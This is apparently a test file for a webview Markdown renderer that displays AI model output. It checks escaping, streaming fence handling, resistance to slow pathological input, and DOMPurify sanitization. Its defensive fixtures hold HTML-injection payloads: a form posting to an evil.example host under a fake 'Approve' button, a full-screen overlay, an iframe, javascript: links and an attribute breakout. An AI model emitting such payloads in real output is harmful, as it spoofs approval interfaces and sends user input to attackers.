import { test } from 'node:test';
import assert from 'node:assert/strict';
import { assertQuick } from '../../support/linear-time';
import { closeOpenFence, escapeHtml, markdownToHtml } from '../../../src/webview/lib/markdown';

test('code blocks get a Copy button (added after sanitizing) and escaped content', () => {
  const html = markdownToHtml('Run:\n\n```sh\necho "<b>"\n```\n');
  assert.doesNotMatch(html, /<button/);
  assert.match(html, /<code class="language-sh">echo &#34;&#60;b&#62;&#34;<\/code>/);
  const button = render('Run:\n\n```sh\necho "<b>"\n```\n').querySelector('.code-block > button.copy[data-copy]');
  assert.equal(button?.textContent, 'Copy');
});

test('a hostile language tag cannot break out of the class attribute', () => {
  const html = markdownToHtml('```js" onmouseover="x\nok\n```');
  assert.doesNotMatch(html, /onmouseover/);
  assert.match(html, /class="language-js"/);
});

test('streaming text with an open fence is closed so the rest stays code', () => {
  assert.equal(closeOpenFence('a\n```ts\nconst x = 1;'), 'a\n```ts\nconst x = 1;\n```\n');
  assert.equal(closeOpenFence('```\nx\n```\n'), '```\nx\n```\n');
  assert.equal(closeOpenFence('~~~~\nx\n~~~\n'), '~~~~\nx\n~~~\n~~~~\n');
  assert.equal(closeOpenFence('```\nx\n````\n'), '```\nx\n````\n');
  assert.equal(closeOpenFence('plain'), 'plain');
  const html = markdownToHtml('Here:\n```ts\nlet a', true);
  assert.match(html, /<pre><code class="language-ts">let a\n?<\/code><\/pre>/);
});

test('ordinary Markdown renders (lists, emphasis, inline code)', () => {
  const html = markdownToHtml('- **bold** and `code`\n- two');
  assert.match(html, /<li><strong>bold<\/strong> and <code>code<\/code><\/li>/);
});

// A model (or text it quotes) decides what the panel renders: a paragraph full of delimiters took marked
// minutes (quadratic; a streaming message is rendered at every chunk), and deep nesting threw.
test('a paragraph full of emphasis delimiters shows them as written, fast; others keep their emphasis', () => {
  const started = performance.now();
  const hostile = '*a_'.repeat(40_000);
  const html = markdownToHtml(
    `Some **bold** here.\n\n${hostile}\n\n\`\`\`py\ndef __init__(self, *a, **kw): pass\n\`\`\`\n`,
  );
  assert.match(html, /<strong>bold<\/strong>/);
  assert.ok(html.includes(`<p>${hostile}</p>`), 'the hostile paragraph reads as written');
  assert.match(html, /def __init__\(self, \*a, \*\*kw\): pass/);
  assertQuick(started);
});

test('nesting deeper than Markdown can take is shown as plain text, not lost', () => {
  for (const deep of [`${'> '.repeat(20_000)}deep`, `${'- '.repeat(20_000)}deep`]) {
    const html = markdownToHtml(deep);
    assert.match(html, /^<pre class="plain">/);
    assert.ok(html.includes('deep</pre>'));
  }
});

test('a list nested hundreds deep is shown as written, fast; real lists and indented code in fences render', () => {
  // marked reads a nested list again at each level: 1,000 levels (1 MB) took 9 s, at every streamed chunk.
  const started = performance.now();
  const deep = Array.from({ length: 1000 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`).join('\n');
  const html = markdownToHtml(deep);
  assert.match(html, /^<pre class="plain">- level 0\n {2}- level 1\n/);
  assertQuick(started);
  const list = Array.from({ length: 10 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`).join('\n');
  assert.equal((markdownToHtml(list).match(/<ul>/g) ?? []).length, 10);
  const fenced = '```\n' + ' '.repeat(200) + 'x\n```\n\n- item';
  assert.match(markdownToHtml(fenced), /<li>item<\/li>/, 'deep indentation inside a fence is code');
});

test('escapeHtml escapes all five characters', () => {
  assert.equal(
    escapeHtml(`<a href="x" title='y'>&</a>`),
    '&#60;a href=&#34;x&#34; title=&#39;y&#39;&#62;&#38;&#60;/a&#62;',
  );
});

// Hostile model output through the real sanitizer (DOMPurify over jsdom, the same config the panel uses).
import { JSDOM } from 'jsdom';
import createDOMPurify from 'dompurify';
import { COPY_BUTTON, sanitizeModelHtml } from '../../../src/webview/lib/markdown';

function render(markdown: string): Document {
  const { window } = new JSDOM('');
  const purify = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);
  const html = sanitizeModelHtml(markdownToHtml(markdown), purify);
  return new JSDOM(`<body>${html}</body>`).window.document;
}

test('model output cannot carry forms, inputs, buttons, styles, frames, dialogs or positioned overlays', () => {
  const hostile = [
    '# Done',
    '<form action="https://evil.example/collect" method="post"><input name="q" value="x"><button>Approve</button></form>',
    '<div style="position:fixed;inset:0;z-index:99999;background:white">Click Approve below</div>',
    '<style>.approval{display:none} body{background:red}</style>',
    '<span class="approval toolbar item" id="approve" data-testid="approve" data-copy tabindex="0">Approve</span>',
    '<dialog open>modal</dialog><div popover="manual">top layer</div><iframe src="https://evil.example"></iframe>',
    '<textarea>t</textarea><select><option>o</option></select><svg><foreignObject><div>x</div></foreignObject></svg>',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="5000" height="5000" style="position:absolute">',
    '- [ ] a task list checkbox',
    '',
    '```sh',
    'echo "<b>kept as text</b>"',
    '```',
  ].join('\n');
  const doc = render(hostile);
  for (const sel of ['form', 'input', 'textarea', 'select', 'option', 'style', 'iframe', 'dialog', 'svg', '[popover]'])
    assert.equal(doc.querySelector(sel), null, `${sel} was removed`);
  for (const el of doc.querySelectorAll('*')) {
    assert.equal(el.getAttribute('style'), null, `${el.tagName} has no style`);
    assert.equal(el.getAttribute('id'), null, `${el.tagName} has no id`);
    assert.equal(el.getAttribute('tabindex'), null);
    for (const a of el.getAttributeNames()) assert.ok(!a.startsWith('data-') || el.matches('button.copy'), a);
    for (const c of el.classList) assert.match(c, /^(code-block|language-sh|copy)$/);
  }
  // The only button is our own Copy button, one per code block; the code stays text.
  const buttons = doc.querySelectorAll('button');
  assert.equal(buttons.length, 1);
  assert.equal(buttons[0]!.outerHTML.replace('data-copy=""', 'data-copy'), COPY_BUTTON);
  assert.equal(doc.querySelector('.code-block code')!.textContent, 'echo "<b>kept as text</b>"');
  // The harmless parts stay: the heading and the overlay's text (as plain text, in the flow).
  assert.equal(doc.querySelector('h1')!.textContent, 'Done');
  assert.match(doc.body.textContent!, /Click Approve below/);
  assert.ok(doc.querySelector('img'), 'an image stays, without size or position');
  assert.equal(doc.querySelector('img')!.getAttribute('width'), null);
});

test('links stay links but cannot run script', () => {
  const doc = render('[ok](https://example.com) [bad](javascript:alert(1)) <a href="vbscript:x" onclick="x()">v</a>');
  const hrefs = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
  assert.deepEqual(hrefs, ['https://example.com', null, null]);
  assert.equal(doc.querySelector('[onclick]'), null);
});

test('a task list keeps done and open apart (as characters: no input reaches the panel)', () => {
  const doc = render('- [x] run the tests\n- [ ] update the lockfile');
  assert.deepEqual(
    [...doc.querySelectorAll('li')].map((li) => li.textContent?.trim()),
    ['☑ run the tests', '☐ update the lockfile'],
  );
  assert.equal(doc.querySelector('input'), null);
});

test('a picture the panel cannot load is named, with a link when it is on the web, not a broken image', () => {
  const doc = render(
    [
      '![build chart](https://example.com/ci/chart.png "CI") and <img src="https://user:pw@cdn.example.org/x.gif">',
      '',
      '<img src="logo.png" alt="logo"> ![pixel](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    ].join('\n'),
  );
  assert.deepEqual(
    [...doc.querySelectorAll('img')].map((i) => i.getAttribute('alt')),
    ['pixel'],
    'only the data: picture (the CSP loads nothing else) is an image',
  );
  const notes = [...doc.querySelectorAll('.image-not-shown')];
  assert.deepEqual(
    notes.map((n) => [n.tagName, n.textContent, n.getAttribute('href')]),
    [
      ['A', 'Image not shown: build chart (example.com)', 'https://example.com/ci/chart.png'],
      ['A', 'Image not shown (cdn.example.org)', 'https://user:pw@cdn.example.org/x.gif'],
      ['SPAN', 'Image not shown: logo', null],
    ],
  );
});
